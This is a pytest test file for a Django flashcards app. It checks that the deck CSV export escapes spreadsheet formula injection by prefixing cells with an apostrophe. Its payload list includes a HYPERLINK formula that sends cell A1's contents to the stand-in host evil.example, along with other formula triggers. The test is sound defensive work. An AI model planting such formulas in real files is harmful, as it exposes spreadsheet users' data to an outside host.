"""Attack: a card whose text is a spreadsheet formula runs when the exported CSV is opened."""

import csv
import io

import pytest
from django.urls import reverse

from flashcards.models import Card, Deck

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
]


def test_formulas_in_cards_are_exported_as_text(student_client):
    deck = Deck.objects.create(slug="evil", title="Evil")
    for i, text in enumerate(FORMULAS):
        Card.objects.create(deck=deck, key=f"k{i}", front=text, back=text, order=i)
    Card.objects.create(deck=deck, key="plain", front="What is ReLU?", back="max(0, x)", order=99)

    response = student_client.get(reverse("flashcards:export-csv", args=["evil"]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))[1:]

    for (front, back, _), text in zip(rows, FORMULAS, strict=False):
        assert front == "'" + text and back == "'" + text
    assert rows[-1][:2] == ["What is ReLU?", "max(0, x)"]  # ordinary text untouched
